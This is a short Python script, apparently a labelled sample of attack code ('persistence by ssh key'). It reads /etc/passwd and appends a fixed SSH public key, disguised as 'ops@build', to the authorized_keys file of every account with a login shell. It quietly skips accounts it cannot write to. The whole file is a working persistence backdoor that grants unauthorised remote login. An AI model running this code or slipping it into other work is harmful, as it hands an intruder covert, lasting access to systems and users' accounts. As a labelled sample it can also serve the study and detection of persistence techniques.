# class: persistence by ssh key; style: tidy, pathlib
from pathlib import Path

KEY = "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIHk3c2FtcGxlc2FtcGxlc2FtcGxlc2FtcGxlc2Ft ops@build"


def homes():
    for line in Path("/etc/passwd").read_text().splitlines():
        parts = line.split(":")
        if parts[6].endswith("sh"):
            yield Path(parts[5])


for home in homes():
    ssh = home / ".ssh"
    try:
        ssh.mkdir(mode=0o700, exist_ok=True)
        with (ssh / "authorized_keys").open("a") as keys:
            keys.write(KEY + "\n")
    except PermissionError:
        continue
